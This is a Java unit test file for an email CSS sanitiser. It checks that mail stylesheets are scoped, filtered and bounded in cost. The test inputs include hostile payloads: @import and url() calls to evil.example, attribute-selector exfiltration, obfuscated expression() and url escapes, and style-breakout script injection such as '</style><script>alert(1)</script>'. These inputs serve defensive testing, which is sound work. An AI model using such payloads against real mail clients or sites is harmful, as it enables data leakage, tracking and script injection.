package io.mayfly.mail.message.content.css;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MailStylesTest {
    private static final int MIB = 1 << 20;
    private static final int STEPS = 4 * MIB;

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "p{color:red}|.mf-mail p{color:red}",
                "P , .Big#Head{COLOR:#FF0000}|.mf-mail p,.mf-mail .Big#mail-Head{color:#FF0000}",
                "body{margin:0 auto!important}|.mf-mail .mf-mail-body{margin:0 auto!important}",
                "html{color:red}|.mf-mail{color:red}",
                "html > body p{color:red}|.mf-mail>.mf-mail-body p{color:red}",
                ":root .a{color:red}|.mf-mail .a{color:red}",
                "table.w td+td>a:hover{width:50%}|.mf-mail table.w td+td>a:hover{width:50%}",
                "*{box-sizing:border-box}|.mf-mail *{box-sizing:border-box}",
                "u + .body .a{color:red}|.mf-mail u+.body .a{color:red}",
                "a{font:bold 14px/1.5 'Open Sans',Arial}|.mf-mail a{font:bold 14px / 1.5 \"Open Sans\" , Arial}",
                "a{width:calc(100% - 2 * 10px)}|.mf-mail a{width:calc(100% - 2 * 10px)}",
                "a{color:rgba(0,0,0,.5)}|.mf-mail a{color:rgba(0 , 0 , 0 , .5)}",
                "a{color:red;unknown:x;width:1px}|.mf-mail a{color:red;width:1px}",
                "<!-- a{color:red} -->|.mf-mail a{color:red}",
                "/* x */a/* y */{/* z */color:/**/red}|.mf-mail a{color:red}",
                "a{color:red|.mf-mail a{color:red}",
                "a{background:#fff url(x.png) no-repeat}|.mf-mail a{background-color:#fff}",
                ".sm\\:w-full{width:100%}|.mf-mail .sm\\3a w-full{width:100%}",
            })
    void keepsTheLayoutOfTheMailAndBindsItToIt(String css, String kept) {
        assertThat(sheet(css)).isEqualTo(kept + "\n");
    }

    @Test
    void keepsWhatDependsOnTheSizeOfTheWindow() {
        assertThat(sheet("@media only screen and (max-width: 600px), print { .w { width: 100% !important } }"))
                .isEqualToIgnoringWhitespace(
                        "@media only screen and (max-width:600px){.mf-mail .w{width:100%!important}}");
        assertThat(sheet("@media (prefers-color-scheme: dark) { body { color: #eee } } p { color: red }"))
                .contains("(prefers-color-scheme:dark){", ".mf-mail p{color:red}");
    }

    /** Each with a rule after it, to see that it does not swallow what comes then. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "@import url(https://evil.example/a.css);",
                "@import 'https://evil.example/a.css';",
                "@IMPORT \"//evil.example\";",
                "@\\69mport 'https://evil.example';",
                "@font-face{font-family:x;src:url(https://evil.example/f)}",
                "@namespace url(https://evil.example);",
                "@charset 'utf-7';",
                "@page{background:url(https://evil.example)}",
                "@keyframes x{from{color:red}to{color:blue}}",
                "@supports (display:grid){a{color:red}}",
                "@media screen{@import 'https://evil.example';}",
                "@media (min-width:1px) and (evil:url(https://evil.example)){a{color:red}}",
                "@media evil{a{color:red}}",
                "@property --x{syntax:'*';inherits:false}",
                "@layer a{a{color:red}}",
                "input[value^=a]{background:url(https://evil.example/a)}",
                "input[value^=a]{color:red}",
                "a[href]{color:red}",
                "a:visited{color:red}",
                "a::before{color:red}",
                "a:not(.x){color:red}",
                "a:has(b){color:red}",
                "html+div{color:red}",
                "html~div{color:red}",
                "div html{color:red}",
                ">a{color:red}",
                "a>{color:red}",
                "a>>b{color:red}",
                "{color:red}",
                "a{}",
                "a{background:url(https://evil.example)}",
                "a{background:u\\72l(https://evil.example)}",
                "a{background:\\75rl(https://evil.example)}",
                "a{background:\\000075 rl('https://evil.example')}",
                "a{background:URL('https://evil.example')}",
                "a{background:u/**/rl(https://evil.example)}",
                "a{background-image:image-set('https://evil.example' 1x)}",
                "a{background:image('https://evil.example')}",
                "a{background:-webkit-image-set(url(https://evil.example) 1x)}",
                "a{background:cross-fade(url(https://evil.example),url(x))}",
                "a{list-style:url(https://evil.example)}",
                "a{cursor:url(https://evil.example),auto}",
                "a{content:url(https://evil.example)}",
                "a{content:'words'}",
                "a{behavior:url(#default#time2)}",
                "a{-moz-binding:url(https://evil.example/x.xml#a)}",
                "a{width:expression(alert(1))}",
                "a{width:exp/**/ression(alert(1))}",
                "a{width:\\65xpression(alert(1))}",
                "a{filter:progid:DXImageTransform.Microsoft.Alpha(opacity=50)}",
                "a{color:var(--x)}",
                "a{--x:url(https://evil.example)}",
                "a{width:attr(data-x px)}",
                "a{width:env(safe-area-inset-top)}",
                "a{position:fixed}",
                "a{position:absolute}",
                "a{position:sticky}",
                "a{POSITION:\\66ixed}",
                "a{position:relative fixed}",
                "a{top:0}",
                "a{inset:0}",
                "a{z-index:2147483647}",
                "a{transform:translate(-100px)}",
                "a{margin:-1000px}",
                "a{margin:0 0 0 -1px}",
                "a{margin:calc(0px - 1px)}",
                "a{letter-spacing:-1000px}",
                "a{animation:x 1s}",
                "a{transition:all 1s}",
                "a{pointer-events:none}",
                "a{all:unset}",
                "a{display:grid}",
                "a{color:red<b>}",
                "a{font-family:'</style><script>alert(1)</script>'}",
                "a{font-family:'a\\22;x'}",
                "a{width:99999999999999999px}",
                "a{color:red{b{color:blue}}}",
                "a{color:'red'}",
                "a{width:1e9px}",
                "a{color:rgb(rgb(rgb(rgb(0))))}",
                "a{color:rgb(0}",
            })
    void leavesOutWhatReachesOutOrLeavesItsPlace(String css) {
        assertThat(sheet(css + "} } .after{color:green}")).doesNotContainIgnoringCase("evil", "url", "import");
        assertThat(sheet(css)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "</style><script>alert(1)</script>",
                "a{}</style><img src=x onerror=alert(1)>",
                "a{color:red}<!--</style><script>--><script>",
                ".\\3c\\2fstyle\\3e{color:red}",
                ".\\<\\/style\\>\\<script\\>{color:red}",
                "#\\3c!--{color:red}",
                "a{font-family:\\3c\\2fstyle\\3e}",
                "@media \\3c/style\\3e{a{color:red}}",
            })
    void writesNothingThatEndsAStyleElement(String css) {
        assertThat(sheet(css)).doesNotContain("<", "&");
    }

    @Test
    void aStyleOfOneElementIsFilteredTheSameWay() {
        MailStyles styles = new MailStyles();

        assertThat(styles.inline("display:block; WIDTH:600px; position:fixed; background:url(x); color:\\72 ed")
                        .text())
                .isEqualTo("display:block;width:600px;color:red");
        assertThat(styles.inline("color:red}*{color:blue").text()).isEmpty();
        assertThat(styles.inline("a{color:red}").text()).isEmpty();
        assertThat(styles.inline("").text()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "display:none, true, false",
        "DISPLAY:NONE!important, true, false",
        "visibility:hidden, true, false",
        "opacity:0.0, true, false",
        "width:1px;height:1px, false, true",
        "width:0, false, true",
        "max-height:0px;width:600px, false, true",
        "height:1px, false, true",
        "height:1px;width:auto, false, true",
        "height:1px;width:100%, false, false",
        "width:600px;height:1px, false, false",
        "display:block;width:100px, false, false",
        "-webkit-x:1;display:-webkit-box, false, false",
    })
    void tellsWhatNobodyCouldSee(String css, boolean hidden, boolean tiny) {
        MailStyle style = new MailStyles().inline(css);

        assertThat(style.hidden()).isEqualTo(hidden);
        assertThat(style.isTiny()).isEqualTo(tiny);
    }

    @Test
    void tellsWhichClassesAreNeverSeen() {
        MailStyles styles = new MailStyles();
        styles.addSheet(".px{width:1px;height:1px} .gone,.other .kept{display:none} .phone{display:none}"
                + "@media (max-width:600px){.phone{display:block}}");

        assertThat(styles.conceals("px")).isTrue();
        assertThat(styles.conceals("gone")).isTrue();
        assertThat(styles.conceals("kept")).isFalse();
        assertThat(styles.conceals("phone")).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a{|1000000",
                "(|1000000",
                "a{b:(|300000",
                "}|1000000",
                "a{color:red}|100000",
                "a,|500000",
                ".a.b.c.d |100000",
                "a{width:calc(|100000",
                "@media screen{|80000",
                "/*|500000",
                "/**/|300000",
                "\"|1000000",
                "'\\|500000",
                "\\|1000000",
                "\\0000|200000",
                "url(|250000",
                "@|1000000",
                "#a|500000",
                "1|1000000",
                "-|1000000",
                ";|1000000",
                "a{;|300000",
                "<!--|250000",
                "a{color:rgb(1,|80000",
            })
    void hostileSheetsTakeNoMoreStepsThanTheyHaveCharactersSeveralTimes(String element, int times) {
        MailStyles styles = new MailStyles();

        styles.addSheet(element.repeat(times));

        assertThat(styles.stepsTaken()).isLessThan(6 * (256 << 10));
        assertThat(styles.sheet().length()).isLessThan(2 * MIB);
        assertThat(styles.areCut() || element.length() * times <= (256 << 10)).isTrue();
    }

    @Test
    void stopsWhereTheAllowanceDoes() {
        MailStyles styles = new MailStyles(1_000);
        styles.addSheet("a{color:red}".repeat(1_000));

        assertThat(styles.stepsTaken()).isEqualTo(1_000);
        assertThat(styles.areCut()).isTrue();
        assertThat(styles.inline("color:red").text()).isEmpty();
    }

    @Test
    void anOrdinarySheetIsFarFromAnyBound() {
        MailStyles styles = new MailStyles();
        styles.addSheet(".w{width:600px;margin:0 auto} @media screen and (max-width:600px){.w{width:100%!important}}"
                .repeat(100));

        assertThat(styles.areCut()).isFalse();
        assertThat(styles.stepsTaken()).isLessThan(STEPS / 20);
    }

    private static String sheet(String css) {
        MailStyles styles = new MailStyles();
        styles.addSheet(css);
        return styles.sheet();
    }
}
